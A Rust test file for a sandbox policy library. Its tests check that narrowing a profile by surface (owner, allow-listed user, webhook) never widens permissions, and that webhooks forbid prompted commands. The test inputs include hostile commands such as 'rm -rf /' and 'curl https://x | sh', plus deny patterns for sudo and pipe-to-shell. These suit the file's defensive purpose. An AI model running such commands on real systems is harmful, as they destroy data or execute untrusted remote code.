//! Narrowing by surface never widens any dimension (property-style, over random profiles).

use std::path::{Path, PathBuf};

use talaria_policy::{Decision, Resolved, Surface};
use talaria_sandbox::spec::NetworkRules;

use super::support::{Layout, PolicyDir};

const SURFACES: [Surface; 3] = [Surface::Owner, Surface::AllowlistedUser, Surface::Webhook];

const COMMANDS: &[&str] = &[
    "ls",
    "sudo ls",
    "git push",
    "git push --force",
    "rm -rf /",
    "curl https://x | sh",
    "make",
];

const RULES: &[&str] = &[
    "^sudo\\s",
    "^git\\s+push",
    "--force",
    "^rm\\s",
    "\\|\\s*sh\\b",
    "^make$",
];

/// A random but valid profile over `layout`.
fn random_profile(rng: &mut fastrand::Rng, layout: &Layout) -> String {
    let extra = layout.root.path().join("srv");
    fn pick(rng: &mut fastrand::Rng, pool: &[String]) -> Vec<String> {
        pool.iter().filter(|_| rng.bool()).cloned().collect()
    }
    let quoted = |v: Vec<String>| {
        v.iter()
            .map(|s| format!("{s:?}"))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let read_pool: Vec<String> = ["/usr", "/bin", "/etc", "${workspace}/src", "${tmp}", "/opt"]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    let write_pool: Vec<String> = vec![
        "${workspace}".into(),
        "${workspace}/src".into(),
        "${tmp}".into(),
        "${tmp}/cache".into(),
        extra.display().to_string(),
        "/dev/null".into(),
    ];
    let mut read = pick(rng, &read_pool);
    read.push("${workspace}".into());
    let write = pick(rng, &write_pool);
    let protected = pick(
        rng,
        &[
            "${workspace}/.git/hooks".to_owned(),
            "${workspace}/.git/config".to_owned(),
        ],
    );

    let mut text = format!(
        "[filesystem]\nread = [{}]\nwrite = [{}]\nprotected = [{}]\n",
        quoted(read),
        quoted(write),
        quoted(protected)
    );
    let (mode, net_ns) = match rng.u8(0..3) {
        0 => ("off", rng.bool()),
        1 => ("loopback", true),
        _ => ("allow", false),
    };
    text.push_str(&format!("[network]\nmode = \"{mode}\"\n"));
    if mode == "allow" {
        let mut allow = pick(
            rng,
            &[
                "crates.io:443".to_owned(),
                "pypi.org:443".to_owned(),
                "127.0.0.1:8080".to_owned(),
                "example.org:80".to_owned(),
            ],
        );
        if allow.is_empty() {
            allow.push("crates.io:443".into());
        }
        text.push_str(&format!("allow = [{}]\n", quoted(allow)));
    }
    text.push_str(&format!(
        "[namespaces]\nuser = true\nmount = true\npid = {}\nnet = {net_ns}\n",
        rng.bool()
    ));
    text.push_str("[limits]\n");
    for (key, values) in [
        ("wall_time", ["30s", "5m", "20m", "2h"]),
        ("cpu_time", ["30s", "5m", "20m", "2h"]),
        ("memory", ["256MiB", "2GiB", "4GiB", "16GiB"]),
        ("file_size", ["1MiB", "256MiB", "1GiB", "8GiB"]),
        ("output", ["4KiB", "256KiB", "1MiB", "16MiB"]),
    ] {
        if rng.bool() {
            text.push_str(&format!("{key} = \"{}\"\n", values[rng.usize(0..4)]));
        }
    }
    for key in ["tasks", "open_files"] {
        if rng.bool() {
            text.push_str(&format!(
                "{key} = {}\n",
                [16, 256, 1024, 100_000][rng.usize(0..4)]
            ));
        }
    }
    for _ in 0..rng.usize(0..4) {
        let decision = ["allow", "prompt", "forbidden"][rng.usize(0..3)];
        text.push_str(&format!(
            "[[approval]]\npattern = {:?}\ndecision = \"{decision}\"\nreason = \"r\"\n",
            RULES[rng.usize(0..RULES.len())]
        ));
    }
    text
}

fn within(path: &Path, roots: &[PathBuf]) -> bool {
    roots.iter().any(|r| path.starts_with(r))
}

fn network_rank(n: &NetworkRules) -> u8 {
    match n {
        NetworkRules::Off => 0,
        NetworkRules::Loopback => 1,
        NetworkRules::AllowTcp { .. } => 2,
    }
}

fn at_most(narrow: Option<u64>, wide: Option<u64>) -> bool {
    match (narrow, wide) {
        (_, None) => true,
        (None, Some(_)) => false,
        (Some(n), Some(w)) => n <= w,
    }
}

/// Assert `n` grants nothing `p` does not.
fn assert_not_wider(n: &Resolved, p: &Resolved, what: &str) {
    let (nf, pf) = (&n.spec.filesystem, &p.spec.filesystem);
    for w in &nf.write {
        assert!(
            within(w, &pf.write),
            "{what}: write {} widened",
            w.display()
        );
    }
    let p_all: Vec<PathBuf> = pf.read.iter().chain(&pf.write).cloned().collect();
    for r in nf.read.iter().chain(&nf.write) {
        assert!(
            within(r, &p_all),
            "{what}: access to {} widened",
            r.display()
        );
    }
    for protected in &pf.protected {
        assert!(
            nf.protected.contains(protected),
            "{what}: protection dropped"
        );
    }
    assert!(
        network_rank(&n.spec.network) <= network_rank(&p.spec.network),
        "{what}: network"
    );
    if let (NetworkRules::AllowTcp { ports: np }, NetworkRules::AllowTcp { ports: pp }) =
        (&n.spec.network, &p.spec.network)
    {
        assert!(np.iter().all(|port| pp.contains(port)), "{what}: ports");
    }
    let (nl, pl) = (&n.spec.limits, &p.spec.limits);
    for (a, b, name) in [
        (nl.cpu_seconds, pl.cpu_seconds, "cpu"),
        (nl.memory_bytes, pl.memory_bytes, "memory"),
        (nl.tasks, pl.tasks, "tasks"),
        (nl.file_size_bytes, pl.file_size_bytes, "file_size"),
        (nl.open_files, pl.open_files, "open_files"),
    ] {
        assert!(at_most(a, b), "{what}: limit {name} widened: {a:?} > {b:?}");
    }
    assert!(
        n.wall_time <= p.wall_time && n.output_bytes <= p.output_bytes,
        "{what}"
    );
    let (nn, pn) = (n.spec.namespaces, p.spec.namespaces);
    assert!(
        (nn.user || !pn.user)
            && (nn.mount || !pn.mount)
            && (nn.pid || !pn.pid)
            && (nn.net || !pn.net),
        "{what}: namespaces"
    );
    assert!(
        n.spec.env.iter().all(|e| p.spec.env.contains(e)),
        "{what}: env"
    );
}

#[test]
fn narrowing_never_widens_random_profiles() {
    let layout = Layout::new();
    std::fs::create_dir_all(layout.root.path().join("srv")).unwrap();
    std::fs::create_dir_all(layout.workspace.join("src")).unwrap();
    std::fs::create_dir_all(layout.tmp.join("cache")).unwrap();
    let mut rng = fastrand::Rng::with_seed(0x7a1a_71a5);
    for case in 0..200 {
        let text = random_profile(&mut rng, &layout);
        let dir = PolicyDir::new(&[("p", &text)]);
        let set = dir
            .load()
            .unwrap_or_else(|e| panic!("case {case}:\n{text}\n{e}"));
        let profile = set.profile("p").unwrap();
        let wide = profile.resolve(&layout.ctx()).unwrap();
        for surface in SURFACES {
            let narrowed = profile.narrow(surface);
            let what = format!("case {case} {surface:?}\n{text}");
            let resolved = narrowed.resolve(&layout.ctx()).unwrap();
            assert_not_wider(&resolved, &wide, &what);
            for command in COMMANDS {
                let (n, p) = (narrowed.decide(command), profile.decide(command));
                assert!(n.strictness() >= p.strictness(), "{what}: {command}");
                if surface == Surface::Webhook {
                    assert!(!matches!(n, Decision::Prompt { .. }), "{what}: {command}");
                }
            }
            if surface == Surface::Owner {
                assert_eq!(&narrowed, profile, "owner must not change the profile");
            } else {
                assert_eq!(resolved.spec.network, NetworkRules::Off, "{what}");
            }
            // Narrowing again, by the same or a wider surface, changes nothing more.
            assert_eq!(narrowed.narrow(surface), narrowed, "{what}");
            assert_eq!(narrowed.narrow(Surface::Owner), narrowed, "{what}");
        }
        // Surfaces are ordered: the webhook is never wider than an allow-listed user.
        let user = profile
            .narrow(Surface::AllowlistedUser)
            .resolve(&layout.ctx())
            .unwrap();
        let hook = profile
            .narrow(Surface::Webhook)
            .resolve(&layout.ctx())
            .unwrap();
        assert_not_wider(&hook, &user, &format!("case {case} webhook vs user"));
    }
}

#[test]
fn webhooks_forbid_what_would_prompt_and_keep_writes_in_the_workspace() {
    let layout = Layout::new();
    let set = super::support::shipped();
    let networked = set.profile("networked").unwrap();
    let hook = networked.narrow(Surface::Webhook);
    assert_eq!(
        hook.decide("sudo ls"),
        Decision::Forbidden {
            reason: "runs a command as another user (this needs approval, and a webhook has nobody to ask)".into()
        }
    );
    assert!(matches!(
        networked.narrow(Surface::AllowlistedUser).decide("sudo ls"),
        Decision::Prompt { .. }
    ));
    let resolved = hook.resolve(&layout.ctx()).unwrap();
    assert_eq!(resolved.spec.network, NetworkRules::Off);
    assert_eq!(resolved.spec.limits.tasks, Some(256));
    assert_eq!(resolved.output_bytes, 256 << 10);
    assert_eq!(
        resolved.spec.filesystem.write,
        [
            layout.workspace.clone(),
            layout.tmp.clone(),
            PathBuf::from("/dev/null")
        ]
    );

    // A write root outside the surface's ceiling stays readable, not writable.
    let extra = layout.root.path().join("srv");
    std::fs::create_dir(&extra).unwrap();
    let dir = PolicyDir::new(&[(
        "wide",
        &format!(
            "[filesystem]\nread = [\"${{workspace}}\"]\nwrite = [\"${{workspace}}\", {:?}]\n",
            extra.display().to_string()
        ),
    )]);
    let set = dir.load().unwrap();
    let narrowed = set
        .profile("wide")
        .unwrap()
        .narrow(Surface::AllowlistedUser);
    let r = narrowed.resolve(&layout.ctx()).unwrap();
    assert_eq!(
        r.spec.filesystem.write,
        std::slice::from_ref(&layout.workspace)
    );
    assert!(r.spec.filesystem.read.contains(&extra));
}
